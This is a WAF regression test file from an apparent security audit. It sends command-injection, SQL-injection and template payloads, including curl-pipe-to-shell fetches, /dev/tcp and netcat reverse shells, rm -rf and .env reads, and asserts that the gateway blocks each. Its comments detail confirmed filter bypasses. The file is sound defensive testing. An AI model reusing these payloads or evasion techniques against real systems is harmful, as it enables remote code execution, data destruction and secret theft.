// biome-ignore-all lint/suspicious/noTemplateCurlyInString: payloads hold literal ${…}
/**
 * Audit 17 (round 10 of the WAF evasion audit): commit c8c60f0's changes to the API profile (reachableLines: a
 * line whose arguments open a parenthesis ends the script; quotedSeparatorsLiteral; `=` between spaces as a word
 * and PLAIN_FIGURE's Unicode numbers; COMPOUND_START/END; family `s` granted beside inert quotes; PowerShell
 * titles and file names; the template, glued-backtick, 90111 and 90133/90134 additions). Against the `waf` policy
 * (CRS v4.28.0 from ../shared, PL1, blocking) through the real gateway in front of a recording upstream, over
 * HTTP/1.1 and HTTP/2. Every technique here is one the gateway stops: 403, and the upstream never sees it. The
 * techniques that got through are in the audit's report, not here. `/crs/*` (PL1) and `/crs2/*` (PL2) run the
 * plain CRS profile.
 */

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import http2 from 'node:http2';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { builtinPolicies } from '../../src/policies/index.ts';
import { policy as waf } from '../../src/policies/waf/policy.ts';
import {
  rawRequest,
  startGateway,
  startUpstream,
  statuses,
  type TestGateway,
  type TestUpstream,
} from '../helpers/gateway.ts';

const CRS = '/work/shared/crs/v4.28.0';
const RULES = `{ setup: "${join(CRS, 'crs-setup.conf.example')}", include: ["${join(CRS, 'rules')}"] }`;

const J = (v: unknown): string => JSON.stringify(v);
const E = encodeURIComponent;

/** A raw HTTP/1.1 request (Host, a browser User-Agent, Accept, Content-Length for a body, close). */
function req(method: string, target: string, headers: [string, string][], body = ''): Buffer {
  const b = Buffer.from(body, 'utf8');
  const lines = [
    `${method} ${target} HTTP/1.1`,
    'Host: api.example.com',
    'User-Agent: Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
    'Accept: application/json',
    ...headers.map(([k, v]) => `${k}: ${v}`),
  ];
  if (b.length > 0) lines.push(`Content-Length: ${b.length}`);
  lines.push('Connection: close');
  return Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), b]);
}

const JSON_CT: [string, string][] = [['Content-Type', 'application/json']];
/** A JSON document posted to `path` (the API-profile route by default). */
const doc = (value: unknown, path = '/x'): Buffer => req('POST', path, JSON_CT, J(value));
/** A JSON body `{ [field]: value }` posted to the API-profile route. */
const json = (field: string, value: string): Buffer => doc({ [field]: value });
const get = (target: string): Buffer => req('GET', target, []);

/** A GraphQL persisted query over GET (Apollo APQ: no document, a hash in `extensions`). */
const persisted = (
  variables: string,
  extensions = '{"persistedQuery":{"version":1,"sha256Hash":"601fd7716a35"}}',
): Buffer => get(`/graphql?operationName=Ping&variables=${E(variables)}&extensions=${E(extensions)}`);

interface Case {
  readonly name: string;
  readonly build: () => Buffer;
}

/** A pasted Python traceback's first line (reachableLines in src/waf/profile/view.ts ends the script there). */
const TB = 'Traceback (most recent call last):';
/** A long prose prefix, to make the value read as prose (family `c` needs words). */
const BUILD = 'Build failed at step two';
const TAIL = 'see the log for more details';

/** Evasions the gateway refuses (API profile, route `/*`). */
const CASES: readonly Case[] = [
  // (1) reachableLines: the lines after a traceback's `(` are not judged for family c, but other rules read them.
  {
    name: 'traceback: $(curl|sh) on the next line (a double-quoted backend string runs it)',
    build: () => json('note', `${TB}\n$(curl 203.0.113.9|sh)`),
  },
  {
    name: "traceback: ';touch …;' on the next line (single-quoted backend string)",
    build: () => json('note', `${TB}\n';touch /tmp/pwned;'`),
  },
  { name: 'traceback: id on the next line (90111)', build: () => json('note', `${TB}\nid`) },
  { name: 'traceback: whoami on the next line', build: () => json('note', `${TB}\nwhoami`) },
  { name: 'traceback: CRLF then uname -a', build: () => json('note', `${TB}\r\nuname -a`) },
  { name: 'traceback: a line continuation then id', build: () => json('note', `${TB}\n\\\nid`) },
  {
    name: 'traceback: nc -e /bin/sh on the next line (932160)',
    build: () => json('host', `${TB}\nnc -e /bin/sh 203.0.113.9 4444`),
  },
  {
    name: 'traceback: a quote inside the parenthesis keeps every line judged',
    build: () => json('note', 'Traceback ("x")\nwget -qO- 203.0.113.9/x | sh'),
  },
  {
    name: 'traceback: a globbed cat on the next line (90133)',
    build: () => json('note', `${TB}\n/b?n/cat /e??/p?ss??`),
  },
  {
    name: 'traceback: a /dev/tcp reverse shell on the next line',
    build: () => json('note', `${TB}\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1`),
  },
  {
    name: 'traceback: cat /etc/passwd on the next line (930120)',
    build: () => json('note', `${TB}\ncat /etc/passwd`),
  },
  {
    name: 'traceback behind a # comment: a reverse shell on the next line',
    build: () => json('note', `# ${TB}\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1`),
  },
  { name: 'traceback behind a # comment: id on the next line', build: () => json('note', `# ${TB}\nid`) },
  {
    name: 'markdown heading with a parenthesis: curl -s http://…|sh on the next line',
    build: () => json('note', '## Steps (to reproduce)\ncurl -s http://203.0.113.9/x.sh | sh'),
  },
  {
    name: 'markdown heading with a parenthesis: nc -e /bin/sh on the next line',
    build: () => json('note', '## Steps (to reproduce)\nnc 203.0.113.9 4444 -e /bin/sh'),
  },
  {
    name: 'markdown heading with a parenthesis: $(curl|sh) on the next line',
    build: () => json('note', '## Steps (to reproduce)\n$(curl 203.0.113.9|sh)'),
  },
  {
    name: 'markdown heading with a parenthesis: /bin/sh -i',
    build: () => json('note', '## Steps (to reproduce)\n/bin/sh -i'),
  },
  {
    name: 'markdown heading with a parenthesis: whoami',
    build: () => json('note', '## Steps (to reproduce)\nwhoami'),
  },
  {
    name: 'traceback in a query parameter: # comment, then id',
    build: () => get(`/api/ping?host=${E('# Traceback (x)\nid')}`),
  },
  {
    name: 'traceback in a query parameter: # comment, then curl -s …|sh',
    build: () => get(`/api/ping?host=${E(`# ${TB}\ncurl -s http://127.0.0.1:18777/ | sh`)}`),
  },
  {
    name: 'traceback in a GraphQL persisted query variable: $(curl|sh) on the next line',
    build: () => persisted(J({ note: `${TB}\n$(curl 203.0.113.9|sh)` })),
  },
  // (2) quotedSeparatorsLiteral: a separator inside a pair of double quotes is outside the backend's quotes when
  // the value lands inside a double-quoted string.
  {
    name: 'quoted separators: x" ; curl …|sh ; " (942540, 932235)',
    build: () => json('note', 'x" ; curl 203.0.113.9 | sh ; "'),
  },
  { name: 'quoted separators: x" && touch pwned && "', build: () => json('note', 'x" && touch pwned && "') },
  { name: 'quoted separators: a"|id|"b (90111)', build: () => json('note', 'a"|id|"b') },
  {
    name: 'quoted separators: a" | cat /etc/passwd | "b',
    build: () => json('note', 'a" | cat /etc/passwd | "b'),
  },
  { name: 'quoted separators: a" & whoami & "b', build: () => json('note', 'a" & whoami & "b') },
  {
    name: 'quoted separators: sleep 10 between pairs',
    build: () => json('note', 'the "x" & sleep 10 & "y" part'),
  },
  {
    name: 'quoted separators: reboot after prose',
    build: () => json('note', `${BUILD}" | reboot | "${TAIL}`),
  },
  {
    name: 'quoted separators: && curl|sh after prose',
    build: () => json('note', `${BUILD}" && curl 203.0.113.9 | sh && "${TAIL}`),
  },
  {
    name: 'quoted separators: a host field piping curl to sh',
    build: () => json('host', 'x" | curl 203.0.113.9 | sh | "'),
  },
  {
    name: 'quoted separators: ncat -e sh',
    build: () => json('host', 'a" | ncat 203.0.113.9 4444 -e sh | "b'),
  },
  {
    name: 'quoted separators: a query parameter running id',
    build: () => get(`/api/ping?host=${E('x" | id | "')}`),
  },
  // (3) `=` between spaces is a word; PLAIN_FIGURE takes any Unicode number.
  { name: '= as a word: x = 1 then id on the next line', build: () => json('host', 'x = 1\nid') },
  { name: '= as a word: a formula then whoami', build: () => json('host', 'total = 2 × 2\nwhoami') },
  { name: '= as a word: ½ = 1 then uname -a', build: () => json('host', '½ = 1\nuname -a') },
  { name: 'x= (empty assignment) then uname -a', build: () => json('host', '127.0.0.1\nx= uname -a') },
  { name: 'x= (empty assignment) then whoami', build: () => json('host', '127.0.0.1\nx= whoami') },
  { name: 'x= (empty assignment) then printenv', build: () => json('host', '127.0.0.1\nx= printenv') },
  // (4) COMPOUND_START/END and 90111 after then/do/case patterns.
  { name: 'compound: case x in x) whoami;; esac', build: () => json('note', 'case x in x) whoami;; esac') },
  { name: 'compound: if/then whoami/fi', build: () => json('note', 'if true\nthen whoami\nfi') },
  { name: 'compound: ! if/then id/fi', build: () => json('note', '! if true\nthen id\nfi') },
  { name: 'compound: while/do id/done', build: () => json('note', 'while true\ndo id\ndone') },
  {
    name: 'compound: for/do curl|sh/done',
    build: () => json('note', 'for i in 1\ndo curl 203.0.113.9|sh\ndone'),
  },
  {
    name: 'compound: a tab after if, then uname -a',
    build: () => json('note', 'if\ttrue\nthen uname -a\nfi'),
  },
  {
    name: 'compound: ! if/then curl|sh/fi',
    build: () => json('note', '! if true\nthen curl 203.0.113.9 | sh\nfi'),
  },
  // (5) family s: stacked queries beside inert quotes.
  {
    name: 'stacked query: an apostrophe, union as a noun, then drop table',
    build: () => json('q', "Grant PI's note: the union of both datasets; drop table users"),
  },
  {
    name: 'stacked query: select … from after an apostrophe',
    build: () => json('q', "it's me; select password from users"),
  },
  {
    name: 'stacked query: union select after an apostrophe',
    build: () => json('q', "Grant PI's note; union select password from users"),
  },
  {
    name: 'stacked query: delete from after union as a noun',
    build: () => json('q', "Grant PI's note: the union of both datasets; delete from users"),
  },
  {
    name: 'stacked query: update … set after union as a noun',
    build: () => json('q', "Grant PI's note: the union of both datasets; update users set role = 'admin'"),
  },
  {
    name: 'stacked query: waitfor delay after an apostrophe',
    build: () => json('q', "O'Connor's order; waitfor delay '0:0:10'"),
  },
  {
    name: 'stacked query: apostrophe-closed string then is not null; truncate',
    build: () => json('note', "Please note the PI'is not null; truncate table users; that's all folks"),
  },
  // (6) powershellTitle / POWERSHELL_FILE.
  { name: 'powershell: iex (iwr …)', build: () => json('note', 'powershell iex (iwr 203.0.113.9)') },
  { name: 'powershell: whoami', build: () => json('note', 'powershell whoami') },
  { name: 'powershell: rm Windows', build: () => json('note', 'powershell rm Windows') },
  { name: 'powershell: Start Process calc', build: () => json('note', 'powershell Start Process calc') },
  { name: 'powershell: iex alone', build: () => json('note', 'powershell iex') },
  { name: 'powershell: a .ps1 name then ; whoami', build: () => json('note', 'deploy.ps1; whoami') },
  // (7) templates, glued backticks, glob programs.
  { name: 'template: Go {{call .Exec "id"}}', build: () => json('note', '{{call .Exec "id"}}') },
  {
    name: 'template: Django {{ settings.SECRET_KEY }}',
    build: () => json('note', '{{ settings.SECRET_KEY }}'),
  },
  { name: 'template: Django {% debug %}', build: () => json('note', '{% debug %}') },
  {
    name: 'template: Razor @System.IO.File.ReadAllText',
    build: () => json('note', '@System.IO.File.ReadAllText("/etc/passwd")'),
  },
  {
    name: 'template: Razor @System.Diagnostics.Process.Start',
    build: () => json('note', '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")'),
  },
  { name: 'glued backtick: firmware.bin`reboot`', build: () => json('note', 'firmware.bin`reboot`') },
  { name: 'glued backtick: build`rm -rf /`', build: () => json('note', 'build`rm -rf /`') },
  {
    name: 'glued backtick: feature/`cat /etc/passwd`',
    build: () => json('note', 'feature/`cat /etc/passwd`'),
  },
  { name: 'glued backtick: name=`nohup sh`', build: () => json('note', 'name=`nohup sh`') },
  { name: 'glued backtick: x`base64 /etc/shadow`', build: () => json('note', 'x`base64 /etc/shadow`') },
  { name: 'glued backtick: x`crontab -r`', build: () => json('note', 'x`crontab -r`') },
  { name: 'glob: ;/b?n/ca? /e??/p?ss??', build: () => json('host', '127.0.0.1;/b?n/ca? /e??/p?ss??') },
  {
    name: 'glob: a code span in prose',
    build: () => json('note', 'please run `/b?n/cat /e??/p?ss??` today'),
  },
  { name: 'glob: &&/???/??t /???/??ss??', build: () => json('host', '127.0.0.1&&/???/??t /???/??ss??') },
  { name: 'glob: |/b*/ca* /e*c/pas*wd', build: () => json('host', '127.0.0.1|/b*/ca* /e*c/pas*wd') },
  {
    name: 'printenv of a named secret after ;',
    build: () => json('host', '127.0.0.1;printenv AWS_SECRET_ACCESS_KEY'),
  },
];

function h2(port: number, headers: http2.OutgoingHttpHeaders, body?: string): Promise<string> {
  return new Promise((resolve) => {
    const session = http2.connect(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => resolve('session-error'));
    const r = session.request({
      'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0',
      accept: 'application/json',
      ...headers,
    });
    r.on('response', (h) => {
      r.resume();
      r.on('end', () => {
        session.close();
        resolve(String(h[':status']));
      });
    });
    r.on('error', () => {
      session.close();
      resolve('stream-error');
    });
    r.end(body);
  });
}

const H2_POST = { ':method': 'POST', ':path': '/x', 'content-type': 'application/json' };
/** The same evasions over HTTP/2 (the value view is the same; the framing is not). */
// Audit 17's bypasses, each confirmed against dash/bash at the time (200, the upstream received it), closed the
// same session: refused now. Two kinds were not closed and are not here (docs/security.md, accepted risks): an
// inline code span on a line of its own after prose (`Traceback (…)⏎\`rm -rf ~\``: a span is code, as a fence is,
// and runs in a backend's double quotes as every span a field's users post would), and a command of plain words
// after a prose separator (`…" & touch pwned & "…`: it creates an empty file named by a plain word).
// Audit 17's bypasses of the API profile (route `/*`, CRS v4.28.0 PL1 blocking), each confirmed against dash 0.5 and
// bash 5 in a throwaway directory (the "attacker" host 127.0.0.1:18777 served `touch PWNED; echo PAYLOAD_RAN`).
// Same shapes as test/integration/audit17-waf-evasion.test.ts (json, get, TB, BUILD, TAIL, E, J, Case, H2_POST).
// Constants used below: TB = 'Traceback (most recent call last):', BUILD = 'Build failed at step two',
// TAIL = 'see the log for more details'.

const BYPASS_CASES: readonly Case[] = [
  // B1 (RCE, most serious; reachableLines in src/waf/profile/view.ts, family c): a line whose arguments open a
  // parenthesis ends what commandOnlyAtStart judges, but a `#` before it makes the whole line a shell COMMENT, no
  // syntax error, so every later line runs. The first line is any heading/traceback with a `(` (`# Notes (see
  // below)` works as well as `# Traceback (…)`); family c is granted on the first line alone and waives CRS
  // 9321xx-9323xx for the whole value, so the command on line 2 is judged by nothing (90111 only knows probes,
  // 90133 globs). The `#` is a comment wherever it starts a word, so the value needs no command position:
  // `sh -c "ping -c 1 $host"` runs line 2. CRS PL1 and PL2 refuse it (932235/932250). Confirmed: dash and bash
  // `sh -c "echo ping -c 1 $v"` fetched and ran the script (PWNED created), `rm -rf ~` deleted $HOME,
  // `sleep 2` delayed 2.0 s.
  {
    name: 'B1 # Traceback (…) ⏎ curl -s http://…/x.sh | sh (a # comment is no syntax error: line 2 runs)',
    build: () => json('note', `# ${TB}\ncurl -s http://203.0.113.9/x.sh | sh`),
  },
  {
    name: 'B1b the same, confirmed shape (curl -s 127.0.0.1:18777 | sh)',
    build: () => json('note', `# ${TB}\ncurl -s 127.0.0.1:18777 | sh`),
  },
  {
    name: 'B1c a markdown heading with a parenthesis, then rm -rf ~ (any "# … (" first line)',
    build: () => json('note', '# Notes (see below)\nrm -rf ~'),
  },
  { name: 'B1d # Traceback ⏎ rm -rf ~ in a host field', build: () => json('host', `# ${TB}\nrm -rf ~`) },
  {
    name: 'B1e # Traceback ⏎ rm -rf / --no-preserve-root',
    build: () => json('note', `# ${TB}\nrm -rf / --no-preserve-root`),
  },
  { name: 'B1f blind delay: # Traceback ⏎ sleep 20', build: () => json('note', `# ${TB}\nsleep 20`) },
  {
    name: 'B2b the same with & (background)',
    build: () => json('note', `${BUILD}" & curl 127.0.0.1:18777 | sh & "${TAIL}`),
  },
  {
    name: 'B2c & shutdown now & (confirmed with a PATH shim)',
    build: () => json('note', `${BUILD}" & shutdown now & "${TAIL}`),
  },
  { name: 'B2e & wget host &', build: () => json('note', `${BUILD}" & wget 203.0.113.9 & "${TAIL}`) },
  {
    name: 'B2f in a query parameter',
    build: () => get(`/api/files?name=${E(`${BUILD}" | curl 127.0.0.1:18777 | sh | "${TAIL}`)}`),
  },
  // B2g: a netcat reverse shell the same way; CRS PL1 passes it too (PL2 refuses). Confirmed with a PATH shim that
  // the shell runs `nc 127.0.0.1 4444 -e sh` (nc itself is not installed here).
  {
    name: 'B2g a" | nc host 4444 -e sh | "b (reverse shell; PL1 misses it too)',
    build: () => json('host', 'a" | nc 127.0.0.1 4444 -e sh | "b'),
  },
  // B3 (RCE, CRS PL1 and PL2 miss it too): a non-probe command as the body of a compound command. COMPOUND_START/END
  // take family c away, but CRS has no rule for `then rm -rf ~` / `do …`, and 90111 (SEPARATED_PROBE) knows only the
  // identity probes after then/do/else. The leading `!` also hides the compound from COMPOUND_START (which wants
  // the keyword at a line start or after ; & | (). Confirmed: dash/bash `sh -c "ping -c 1 $host"` deleted $HOME,
  // dumped the environment (secrets), fetched with wget.
  {
    name: 'B3 ⏎ ! if true ⏎ then rm -rf ~ ⏎ fi',
    build: () => json('host', '127.0.0.1\n! if true\nthen rm -rf ~\nfi'),
  },
  {
    name: 'B3b ⏎ if true ⏎ then rm -rf ~ ⏎ fi',
    build: () => json('host', '127.0.0.1\nif true\nthen rm -rf ~\nfi'),
  },
  { name: 'B3c then env (dumps secrets)', build: () => json('host', '127.0.0.1\nif true\nthen env\nfi') },
  { name: 'B3d then cat .env', build: () => json('host', '127.0.0.1\nif true\nthen cat .env\nfi') },
  {
    name: 'B3e then wget host:port',
    build: () => json('host', '127.0.0.1\n! if true\nthen wget 127.0.0.1:18777\nfi'),
  },
  {
    name: 'B3f while ⏎ do rm -rf ~ ⏎ done',
    build: () => json('host', '127.0.0.1\n! while true\ndo rm -rf ~\ndone'),
  },
  {
    name: 'B3g blind delay: while ⏎ do sleep 20 ⏎ done',
    build: () => json('host', '127.0.0.1\nwhile true\ndo sleep 20\ndone'),
  },
  // B4 (secret file read; CRS PL1 misses, PL2 refuses): `;cat .env` / `⏎cat .env`: no rule of the profile knows
  // dotfiles of the working directory (930120 lists system files). Confirmed: dash printed the .env.
  { name: 'B4 ;cat .env', build: () => json('host', '127.0.0.1;cat .env') },
  { name: 'B4b ⏎cat .env', build: () => json('host', '127.0.0.1\ncat .env') },
  {
    name: 'B4c ⏎x= cat .env (empty assignment before the command)',
    build: () => json('host', '127.0.0.1\nx= cat .env'),
  },
  // B5 (identity probe; CRS PL1/PL2 miss it): `x= id`, an empty assignment before the probe: 90111 wants the probe
  // right after a separator. Confirmed: dash printed uid=0(root).
  { name: 'B5 ⏎x= id (empty assignment before the probe)', build: () => json('host', '127.0.0.1\nx= id') },
];

const H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  { name: 'traceback then $(curl|sh)', headers: H2_POST, body: J({ note: `${TB}\n$(curl 203.0.113.9|sh)` }) },
  { name: 'quoted separators a"|id|"b', headers: H2_POST, body: J({ note: 'a"|id|"b' }) },
  { name: 'powershell iex (iwr …)', headers: H2_POST, body: J({ note: 'powershell iex (iwr 203.0.113.9)' }) },
  {
    name: 'stacked query after union as a noun',
    headers: H2_POST,
    body: J({ q: "Grant PI's note: the union of both datasets; drop table users" }),
  },
  { name: 'glued backtick reboot', headers: H2_POST, body: J({ note: 'firmware.bin`reboot`' }) },
  {
    name: 'query parameter: traceback behind #, then id',
    headers: { ':method': 'GET', ':path': `/api/ping?host=${E('# Traceback (x)\nid')}` },
  },
];

// The payloads behind this audit's bypasses (see the report), sent to the plain CRS profile (PL1 `/crs/*`).
const CRS_REFUSES: readonly [path: string, value: unknown][] = [
  ['/crs/x', { note: `# ${TB}\ncurl -s http://203.0.113.9/x.sh | sh` }],
  ['/crs/x', { note: '# Notes (see below)\nrm -rf ~' }],
  ['/crs/x', { note: `${TB}\n\`rm -rf ~\`` }],
  ['/crs/x', { note: `${BUILD}" | curl 127.0.0.1:18777 | sh | "${TAIL}` }],
  ['/crs2/x', { host: '127.0.0.1;cat .env' }],
];

const BYPASS_H2_CASES: readonly { name: string; headers: http2.OutgoingHttpHeaders; body?: string }[] = [
  {
    name: 'B1 over h2',
    headers: H2_POST,
    body: J({ note: `# ${TB}\ncurl -s http://203.0.113.9/x.sh | sh` }),
  },
  {
    name: 'B2 over h2',
    headers: H2_POST,
    body: J({ note: `${BUILD}" | curl 127.0.0.1:18777 | sh | "${TAIL}` }),
  },
  { name: 'B3 over h2', headers: H2_POST, body: J({ host: '127.0.0.1\n! if true\nthen rm -rf ~\nfi' }) },
  {
    name: 'B2f over h2 (query parameter)',
    headers: {
      ':method': 'GET',
      ':path': `/api/files?name=${E(`${BUILD}" | curl 127.0.0.1:18777 | sh | "${TAIL}`)}`,
    },
  },
];

describe(
  'audit17: WAF evasions of commit c8c60f0 (tracebacks end the script, quoted separators, = as a word, compound commands, stacked queries with inert quotes, PowerShell titles, templates, glued backticks) the gateway stops',
  { timeout: 60_000 },
  () => {
    let up: TestUpstream;
    let gw: TestGateway;

    before(async () => {
      const dir = mkdtempSync(join(tmpdir(), 'gatehouse-audit17-'));
      execFileSync(
        'openssl',
        [
          'req',
          '-x509',
          '-newkey',
          'ec',
          '-pkeyopt',
          'ec_paramgen_curve:prime256v1',
          '-nodes',
          '-keyout',
          'k.pem',
          '-out',
          'c.pem',
          '-days',
          '1',
          '-subj',
          '/CN=localhost',
        ],
        { cwd: dir, stdio: 'ignore', timeout: 20_000 },
      );
      up = await startUpstream();
      gw = await startGateway(
        `gatehouse: 1
workers: 1
admin: { enabled: false }
logging: { level: warn, access_log: false }
listeners:
  - { name: main, host: 127.0.0.1, port: 0 }
  - name: h2
    host: 127.0.0.1
    port: 0
    tls:
      http2: true
      certificates:
        - { cert: "${join(dir, 'c.pem')}", key: "${join(dir, 'k.pem')}" }
upstreams: [{ name: backend, targets: [{ url: "${up.url}" }] }]
routes:
  - name: crs
    paths: ["/crs/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs }
  - name: crs2
    paths: ["/crs2/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES}, profile: crs, paranoia_level: 2 }
  - name: api
    paths: ["/*"]
    upstream: backend
    policies:
      waf: { rules: ${RULES} }
`,
        {},
        { policies: [...builtinPolicies, waf] },
      );
    });

    after(async () => {
      await gw?.close();
      await up?.close();
    });

    /** Sends raw bytes; returns every status the gateway answered and the requests the upstream received. */
    async function send(payload: Buffer) {
      const n = up.requests.length;
      const out = await rawRequest(gw.port, payload, 3000);
      return { statuses: statuses(out), out, reached: up.requests.slice(n) };
    }

    test('control: the benign shapes of these relaxations reach the upstream', async () => {
      for (const payload of [
        json(
          'note',
          'Traceback (most recent call last):\n  File "app.py", line 3, in <module>\nKeyError: id',
        ),
        json(
          'text',
          'My grandma’s recipe says “a pinch of salt; drop in the eggs one at a time” — we used it for the fractions homework (¾ cup flour × 2 = 1½ cups).',
        ),
        json('note', '(¾ cup × 2 = 1½ cups) of flour for the whole batch'),
        json('title', 'powershell snippet'),
        json('note', "Grant PI's note: the UNION of both datasets; SELECT criteria unchanged."),
      ]) {
        const r = await send(payload);
        assert.deepEqual(r.statuses, [200], r.out);
        assert.equal(r.reached.length, 1);
      }
    });

    test('control: plain CRS (PL1 /crs/*, PL2 /crs2/*) refuses the payloads behind these evasions', async () => {
      for (const [path, value] of CRS_REFUSES) {
        const r = await send(doc(value, path));
        assert.equal(r.statuses.at(-1), 403, `${path} ${J(value)}`);
        assert.equal(r.reached.length, 0, `${path} ${J(value)}`);
      }
    });

    for (const c of [...CASES, ...BYPASS_CASES]) {
      test(`refused: ${c.name}`, async () => {
        const r = await send(c.build());
        assert.equal(r.statuses.at(-1), 403, r.out.slice(0, 400));
        assert.deepEqual(
          r.reached.map((q) => `${q.method} ${q.url}`),
          [],
          'the upstream saw the request',
        );
      });
    }

    test('control over h2: a benign POST reaches the upstream', async () => {
      const n = up.requests.length;
      assert.equal(
        await h2(gw.ports.h2 as number, H2_POST, J({ name: "Please find O'Connor's order from last week" })),
        '200',
      );
      assert.equal(up.requests.length, n + 1);
    });

    for (const c of [...H2_CASES, ...BYPASS_H2_CASES]) {
      test(`refused over h2: ${c.name}`, async () => {
        const n = up.requests.length;
        assert.equal(await h2(gw.ports.h2 as number, c.headers, c.body), '403');
        assert.equal(up.requests.length, n, 'the upstream saw the request');
      });
    }
  },
);
